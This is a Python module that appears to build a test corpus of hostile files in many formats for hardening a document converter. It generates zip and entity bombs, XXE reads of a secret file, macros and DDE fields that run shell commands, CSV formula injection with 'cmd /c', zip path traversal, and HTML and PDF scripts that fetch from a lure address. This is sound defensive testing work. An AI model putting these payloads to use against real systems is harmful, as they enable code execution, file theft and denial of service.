"""Hostile files of every format: bombs, macros, references to elsewhere, a million cells, nesting.

Each is one kind of attack on a file that a program made, or a file of its own where a format has
nothing that could be changed so. Macros of Office files stand where such files have them, in words
and not compiled. A million cells are made where a format has tables that something fills in: not in
.doc, .txt, .jsonl and what holds other files, which have something else instead.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from email.message import EmailMessage
from fnmatch import fnmatch
from pathlib import Path
from types import MappingProxyType
from typing import Any, NamedTuple

Change = Callable[[bytes], bytes]

_MANY, _DEEP, _WIDE = 1_000_000, 100_000, 250
_MESSAGES, _PARTS = 20, range(500)
_BOMB = 64 << 20
_LINKS = ("image", "attachedTemplate", "oleObject", "externalLink", "video", "subDocument")
_MACROS = {
    **{".docx": "word/vbaProject.bin", ".xlsx": "xl/vbaProject.bin"},
    **{".pptx": "ppt/vbaProject.bin", ".doc": "Macros", ".xls": "_VBA_PROJECT_CUR"},
}
_RELATION = (
    '<Relationship Id="rIdX{}" TargetMode="External" Target="{}" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/{}"/>'
)
_LINKED = (
    '<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink='
    '"http://www.w3.org/1999/xlink"><draw:image xlink:href="{0}/a.png" xlink:type="simple" '
    'xlink:show="embed" xlink:actuate="onLoad"/><draw:object xlink:href="{0}/a.ods"/></draw:frame>'
)
_PAGE = (
    '<base href="{0}/"/><link rel="stylesheet" href="{0}/a.css"/><img src="{0}/a.png"/>'
    '<iframe src="{0}/a.html"></iframe><object data="{0}/a"></object><embed src="{0}/b"/>'
    '<meta http-equiv="refresh" content="0;url={0}/r"/><video src="{0}/v" autoplay=""></video>'
)
_SCRIPT = "<script>fetch('{0}/js')</script><img src=\"x\" onerror=\"fetch('{0}/on')\"/>"
_BASIC = 'Sub Main\nShell("touch {0}")\nEnd Sub\nSub AutoOpen\nShell "touch {0}"\nEnd Sub\n'
_FLAT = (
    '<?xml version="1.0"?><office:document office:version="1.2" office:mimetype="application/vnd.'
    'oasis.opendocument.{0}" xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:{0}>{1}</office:{0}>'
    "</office:body></office:document>"
)
_SECTION = (
    '<text:section text:name="{0}"><text:section-source xlink:type="simple" xlink:show="embed" '
    'xlink:href="{1}"/><text:p>As it was.</text:p></text:section>'
)
_FORMULA = '<table:table-cell table:formula="of:={}" office:value-type="string"/>'


class Lure(NamedTuple):
    """What files ask for: an address, a file that they may not read, one that macros would make."""

    address: str
    secret: Path
    ran: Path


class _Zipped(NamedTuple):
    """Of a format that is a zip archive: its part of text, where a table goes, and what one is."""

    part: str
    end: str
    table: str = ""


_ZIPPED = {
    ".docx": _Zipped(
        "word/document.xml",
        "</w:body>",
        "<w:tbl>~<w:tr>~<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>~</w:tr>~</w:tbl>",
    ),
    ".odt": _Zipped(
        "content.xml",
        "</office:text>",
        "<table:table>~<table:table-row>~<table:table-cell><text:p>{}</text:p></table:table-cell>"
        "~</table:table-row>~</table:table>",
    ),
    ".pptx": _Zipped(
        "ppt/slides/slide*.xml",
        "</p:spTree>",
        '<p:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml'
        '/2006/table"><a:tbl>~<a:tr h="1">~<a:tc><a:txBody><a:p><a:r><a:t>{}</a:t></a:r></a:p>'
        "</a:txBody></a:tc>~</a:tr>~</a:tbl></a:graphicData></a:graphic></p:graphicFrame>",
    ),
    ".epub": _Zipped("*.xhtml", "</body>", "<table>~<tr>~<td>{}</td>~</tr>~</table>"),
    ".xlsx": _Zipped("xl/sharedStrings.xml", "</sst>"),
    ".ods": _Zipped("content.xml", "</office:spreadsheet>"),
}


def grid(table: str) -> str:
    """A table of a million cells: what is before it, before a row, a cell, and what is behind."""
    before, begin, cell, end, behind = table.split("~")
    rows = (
        begin + "".join(map(cell.format, range(at, at + _WIDE))) + end
        for at in range(0, _MANY, _WIDE)
    )
    return f"{before}{''.join(rows)}{behind}"


def page(lure: Lure) -> str:
    """Markup that asks for all that a page can, and a script that does."""
    return _PAGE.format(lure.address) + _SCRIPT.format(lure.address)


def _fields(lure: Lure) -> str:
    """A Rich Text file's fields that bring text and pictures from elsewhere, and its template."""
    places = (f"{lure.address}/other.odt", lure.secret.as_uri())
    words = ("INCLUDETEXT", "INCLUDEPICTURE", "LINK Word.Document.8", "DDEAUTO soffice")
    fields = "".join(
        f'{{\\field{{\\*\\fldinst {word} "{at}" }}{{\\fldrslt As it was.}}}}\\par '
        for at in places
        for word in words
    )
    return f"{{\\*\\template {places[0]}}}{fields}"


def for_office(lure: Lure) -> dict[str, dict[str, str]]:
    """Files of which LibreOffice makes hostile ones, by the suffix of those and by name."""
    places = (f"{lure.address}/other.odt", lure.secret.as_uri())
    sections = "".join(_SECTION.format(n, at) for n, at in enumerate(places))
    picture = f"<text:p>{_LINKED.format(lure.address)}</text:p>"
    formulas = "".join(_FORMULA.format(f"'{at}'#$Sheet1.A1") for at in places)
    sheet = f'<table:table table:name="A"><table:table-row>{formulas}</table:table-row>'
    cells = {"cells.csv": grid("~~{},~\n~")}
    links = {"elsewhere.fods": _FLAT.format("spreadsheet", f"{sheet}</table:table>")}
    return {
        ".doc": {
            "elsewhere.fodt": _FLAT.format("text", picture + sections),
            "fields.rtf": f"{{\\rtf1 The law.\\par {_fields(lure)}}}",
        },
        ".xls": cells | links,
        ".xlsx": cells,
        ".ods": cells,
    }


def hostile(suffix: str, data: bytes, lure: Lure) -> dict[str, bytes]:
    """Hostile files by what is hostile in them, besides those that LibreOffice makes.

    Args:
        suffix: Their format.
        data: A file of it that a program made.
        lure: What they ask for.
    """
    if suffix in _ZIPPED:
        return _in_archive(suffix, data, lure)
    if suffix in (".doc", ".xls"):
        return _in_compound(suffix, data, lure)
    if suffix in (".eml", ".msg"):
        return _messages(suffix, data, lure)
    if suffix == ".pdf":
        return _pdfs(lure)
    if suffix == ".zip":
        return _archives()
    return {name: made(lure).encode() for name, made in _TEXTS[suffix].items()}


def _in_archive(suffix: str, data: bytes, lure: Lure) -> dict[str, bytes]:
    part, end, table = _ZIPPED[suffix]
    url, basic = lure.address, _BASIC.format(lure.ran)

    def before(mark: str, said: str) -> Change:
        return lambda xml: xml.replace(mark.encode(), f"{said}{mark}".encode(), 1)

    def declared(xml: bytes) -> bytes:
        entity = f'<!DOCTYPE a [<!ENTITY y SYSTEM "{lure.secret.as_uri()}">]>'.encode()
        xml = re.sub(rb"^(<\?xml[^>]*\?>)?", rb"\1" + entity, xml, count=1)
        return re.sub(rb"(</(?:w:t|text:p|a:t|t|p)>)", rb"&y;\1", xml)

    relations = "".join(_RELATION.format(kind, f"{url}/{kind}", kind) for kind in _LINKS)
    linked = {
        ".epub": (part, "</body>", _PAGE.format(url)),
        ".odt": (part, "</text:p>", _LINKED.format(url)),
        ".ods": (part, "</text:p>", _LINKED.format(url)),
    }.get(suffix, ("*.rels", "</Relationships>", relations))
    found = {
        "bomb": changed(data, part, lambda xml: xml + b" " * _BOMB),
        "entity": changed(data, part, declared),
        "elsewhere": changed(data, linked[0], before(*linked[1:])),
        "macros": changed(
            data,
            "*.xhtml",
            before("</body>", _SCRIPT.format(url)),
            {_MACROS.get(suffix, "Basic/Standard/Module1.xml"): basic.encode()},
        ),
    }
    return found | ({"cells": changed(data, part, before(end, grid(table)))} if table else {})


def changed(
    data: bytes, part: str, change: Change, more: Mapping[str, bytes] = MappingProxyType({})
) -> bytes:
    """A zip archive with some of its parts changed, and with more of them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for info in old.infolist():
            own = old.read(info)
            new.writestr(info, change(own) if fnmatch(info.filename, part) else own)
        for name, own in more.items():
            new.writestr(name, own)
    return out.getvalue()


def _in_compound(suffix: str, data: bytes, lure: Lure) -> dict[str, bytes]:
    """Of an older Office file, one with macros, and two that lie."""
    from aspose.email_foss import cfb

    file = cfb.CFBDocument.from_reader(cfb.CFBReader(data))
    macros = file.root.add_storage(cfb.CFBStorage(_MACROS[suffix]))
    module = cfb.CFBStream("Module1", _BASIC.format(lure.ran).encode())
    macros.add_storage(cfb.CFBStorage("VBA")).add_stream(module)
    found = {"macros": cfb.CFBWriter.to_bytes(file), "circle": _circle(data)}
    for stream in file.root.children:
        if stream.name == "WordDocument":  # of where the pieces of its text stand
            stream.data = stream.data[:418] + b"\xff" * 8 + stream.data[426:]
        elif stream.name == "Workbook":  # of how many rows and columns the sheet has
            lying = b"\x00\x02\x0e\x00" + bytes(4) + b"\xff" * 4 + b"\x00\x00\xff\xff\x00\x00"
            size = re.compile(rb"\x00\x02\x0e\x00.{14}", re.DOTALL)
            stream.data = size.sub(lying, stream.data)
    return found | {"lies": cfb.CFBWriter.to_bytes(file)}


def _circle(data: bytes) -> bytes:
    """An older Office file whose sectors each lead to themselves."""
    begin = 512 * (1 + int.from_bytes(data[76:80], "little"))
    return data[:begin] + struct.pack("<128I", *range(128)) + data[begin + 512 :]


def _messages(suffix: str, data: bytes, lure: Lure) -> dict[str, bytes]:
    def message(text: str, kind: str = "plain") -> EmailMessage:
        made = EmailMessage()
        made["From"], made["Subject"] = "a@example.org", "A"
        made.set_content(text, subtype=kind)
        return made

    nested = message("The innermost.")
    for _ in range(_MESSAGES):
        outer = message("It is attached.")
        outer.add_attachment(nested)
        nested = outer
    elsewhere = message(page(lure), "html")
    bomb, macros = message("A bomb."), message("Macros.")
    bomb.add_attachment(_zipped({"a.txt": b" " * _BOMB}), "application", "zip", filename="a.zip")
    program = f"Shell({str(lure.ran)!r})".encode()
    macros.add_attachment(program, "application", "vbs", filename="a.docm")
    made = {"nested": nested, "elsewhere": elsewhere, "bomb": bomb, "macros": macros}
    if suffix == ".msg":
        from aspose.email_foss.msg import mapi_message as outlook

        found = {
            n: bytes(outlook.MapiMessage.from_email_message(m).to_bytes()) for n, m in made.items()
        }
        return found | {"circle": _circle(data)}
    parts = "".join(f'Content-Type: multipart/mixed; boundary="{n}"\n\n--{n}\n' for n in _PARTS)
    found = {name: one.as_bytes() for name, one in made.items()}
    return found | {"parts": f"From: a@example.org\n{parts}\nThe law.".encode()}


def _pdfs(lure: Lure) -> dict[str, bytes]:
    url, text = lure.address, "BT /F1 11 Tf 72 720 Td (The law.) Tj ET"
    asks = f"/AA << /O << /S /SubmitForm /F << /FS /URL /F ({url}/f) >> >> >>"
    script = f"app.launchURL('{url}/js'); this.submitForm('{url}/js');"
    runs = f"/OpenAction << /S /JavaScript /JS ({script}) /Next << /S /Launch /F ({url}) >> >>"
    image = f"/XObject << /X << /Type /XObject /Subtype /Image /Width 9 /Height 9 /F ({url}/i)"
    shown = "".join(f"BT /F1 1 Tf {n % 600} {n // 1700} Td ({n}) Tj ET\n" for n in range(_MANY))
    return {
        "bomb": _pdf(f"BT /F1 1 Tf {'(x) Tj T* ' * (_BOMB // 10)} ET"),
        "macros": _pdf(text, catalog=runs, page=asks),
        "elsewhere": _pdf(f"{text} /X Do", resources=f"{image} >> >>"),
        "circle": _pdf(text, kids="2 0 R 3 0 R"),
        "cells": _pdf(shown),
    }


def _pdf(
    drawn: str, catalog: str = "", page: str = "", resources: str = "", kids: str = "3 0 R"
) -> bytes:
    packed = zlib.compress(drawn.encode())
    objects = (
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count 1 >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R {page} "
        f"/Resources << /Font << /F1 4 0 R >> {resources} >> >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
        + packed
        + b"\nendstream",
    )
    made = b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, one) for n, one in enumerate(objects, 1))
    return b"%%PDF-1.4\n%btrailer << /Size 6 /Root 1 0 R >>\n%%%%EOF\n" % made


def _archives() -> dict[str, bytes]:
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    names = ("../../a.txt", "/etc/a.txt", link)
    within = _zipped({"a.txt": b"The law."})
    for _ in range(_MESSAGES):
        within = _zipped({"a.zip": within, "b.txt": b"The law."})
    honest = _zipped({"a.txt": b" " * _BOMB})
    return {
        "bomb": honest,
        "lies": honest.replace(_BOMB.to_bytes(4, "little"), b"\x09\x00\x00\x00"),
        "nested": within,
        "leads out": _zipped(dict.fromkeys(names, b"/etc/passwd")),
        "members": _zipped({f"{n}.txt": b"" for n in range(_DEEP + 1)}),
    }


def _zipped(members: Mapping[Any, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _aliases() -> str:
    """Front matter whose aliases become more than there is room for."""
    said = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 20))
    return f"---\na0: &a0 [ha]\n{said}---\nThe law.\n"


def _entities() -> str:
    said = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 20))
    return f'<!DOCTYPE a [<!ENTITY a0 "ha">{said}]><a>&a19;</a>'


_TEXTS: dict[str, dict[str, Callable[[Lure], str]]] = {
    ".txt": {
        "laughs": lambda _: _aliases(),
        "comments": lambda _: "<!---->" * _MANY,
        "brackets": lambda _: "(" * _MANY,
        "signs": lambda lure: f"\x1b]8;;{lure.address}\x07\u202e The law. " * _DEEP,
        "one line": lambda _: "The law. " * 10 * _MANY,
    },
    ".md": {
        "laughs": lambda _: _aliases(),
        "elsewhere": lambda lure: f"The law. ![x]({lure.address}/x)\n\n{page(lure)}\n",
        "quotes": lambda _: f"{'> ' * _DEEP}The law.",
        "brackets": lambda _: "![" * _DEEP,
        "cells": lambda _: grid(f"The law.\n\n{'|a' * _WIDE}|\n{'|-' * _WIDE}|\n~|~{{}}|~\n~"),
    },
    ".html": {
        "entity": lambda lure: (
            f'<!DOCTYPE html [<!ENTITY y SYSTEM "{lure.secret.as_uri()}">]><p>The law. &y;'
        ),
        "elsewhere": lambda lure: f"<html><body><p>The law.</p>{page(lure)}</body></html>",
        "macros": lambda lure: f"<html><body>The law.{_SCRIPT.format(lure.address)}</body></html>",
        "nested": lambda _: f"<html><body>{'<div><b>' * _DEEP}The law.",
        "cells": lambda _: grid("<html><body><table>~<tr>~<td>{}</td>~</tr>~</table>"),
    },
    ".rtf": {
        "nested": lambda _: f"{{\\rtf1 {'{' * _DEEP}The law.{'}' * _DEEP}}}",
        "lies": lambda _: "{\\rtf1 The law.\\par \\bin2000000000 x}",
        "elsewhere": lambda lure: f"{{\\rtf1 The law.{_fields(lure)}}}",
        "macros": lambda lure: (
            "{\\rtf1 The law.{\\object\\objautlink\\objupdate{\\*\\objdata "
            f"{_BASIC.format(lure.ran).encode().hex()}}}}}}}"
        ),
        "cells": lambda _: grid("{\\rtf1 ~\\trowd ~{}\\cell ~\\row\n~}"),
    },
    ".xml": {
        "laughs": lambda _: _entities(),
        "entity": lambda lure: (
            f'<!DOCTYPE a [<!ENTITY y SYSTEM "{lure.secret.as_uri()}">]><a>The law. &y;</a>'
        ),
        "elsewhere": lambda lure: (
            f'<?xml-stylesheet href="{lure.address}/a.xsl"?><!DOCTYPE a SYSTEM "{lure.address}/d">'
            '<a xmlns:xi="http://www.w3.org/2001/XInclude">The law.'
            f'<xi:include href="{lure.secret.as_uri()}" parse="text"/></a>'
        ),
        "nested": lambda _: f"{'<a>' * _DEEP}The law.{'</a>' * _DEEP}",
        "cells": lambda _: grid("<a>~<b>~<c>{}</c>~</b>~</a>"),
    },
    ".csv": {
        "macros": lambda lure: (
            f'Fee,Text\n"=WEBSERVICE(""{lure.address}"")","=cmd|\'/c touch {lure.ran}\'!A1"\n'
        ),
        "open": lambda _: f'Fee,Text\n"{"a,b" * _MANY}',
        "cells": lambda _: grid("~~{},~\n~"),
        "one row": lambda _: "1," * _MANY,
        "one cell": lambda _: f"Fee,{'x' * 10 * _MANY}\n1,2\n",
    },
    ".jsonl": {
        "nested": lambda _: f'{{"text": {"[" * _DEEP}{"]" * _DEEP}}}',
        "number": lambda _: f'{{"id": {"9" * _MANY}, "text": "The law."}}',
        "signs": lambda _: '{"text": "The law.\\u0000\\ud800\\u202e", "id": NaN}',
        "lines": lambda _: '{"text": "The law."}\n' * _DEEP,
        "one line": lambda _: f'{{"text": "{"The law. " * 10 * _MANY}"}}',
    },
}
